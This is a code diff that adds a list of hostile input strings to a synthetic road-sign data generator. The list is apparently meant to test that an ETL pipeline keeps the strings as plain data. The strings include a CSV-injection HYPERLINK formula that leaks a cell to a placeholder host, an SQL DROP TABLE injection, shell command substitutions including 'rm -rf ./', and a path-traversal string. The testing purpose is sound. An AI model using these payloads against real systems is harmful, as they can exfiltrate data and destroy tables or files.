@@ -62,6 +62,22 @@ function looseDate(ms: number | undefined, h: number): string | null {
   return formatDutchDate(ms);
 }
 
+/**
+ * Free text that must stay data: spreadsheet formulas (OWASP CSV injection),
+ * SQL, shell syntax and paths.
+ */
+export const HOSTILE_TEXTS = [
+  '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+  '+SUM(1,2)',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  "'); DROP TABLE signs_events; --",
+  '$(touch /tmp/road-etl-hostile)',
+  '`touch /tmp/road-etl-hostile`; rm -rf ./',
+  '../../../../tmp/road-etl-hostile',
+] as const;
+
 export class SignPayloads {
   readonly #seed: number;
 
@@ -74,7 +90,7 @@ export class SignPayloads {
     return 100_000_000 + sign * 37 + (hash(this.#seed, sign, 0x1d) % 37);
   }
 
-  build(event: FeedEvent, townIndex: number, bad = false): SignPayload {
+  build(event: FeedEvent, townIndex: number, bad = false, hostile = false): SignPayload {
     const seed = this.#seed;
     const { sign, round, part, time } = event;
     const h = (k: number): number => hash(seed, sign, k);
@@ -84,11 +100,13 @@ export class SignPayloads {
     const latitude = town.latitude + (unit(seed, sign, 1) - 0.5) * 0.08;
     const longitude = town.longitude + (unit(seed, sign, 2) - 0.5) * 0.12;
     const rd = wgs84ToRd(latitude, longitude);
-    const street = choose(STREETS, seed, sign, 3);
+    const street = hostile ? choose(HOSTILE_TEXTS, seed, sign, 3) : choose(STREETS, seed, sign, 3);
     const roadType = choose(ROAD_TYPES, seed, sign, 4);
     const firstSeen = time - Math.floor(unit(seed, sign, 5) * 400) * DAY_MS;
     const textCount = h(6) % 4 === 0 ? 1 + (h(7) % 2) : 0;
-    const texts = Array.from({ length: textCount }, (_, i) => choose(TEXTS, seed, sign, 8 + i));
+    const texts = Array.from({ length: textCount }, (_, i) =>
+      choose(hostile ? HOSTILE_TEXTS : TEXTS, seed, sign, 8 + i),
+    );
     const rvv =
       unit(seed, sign, round, 9) < 0.08
         ? choose(RVV_CODES, seed, sign, round)
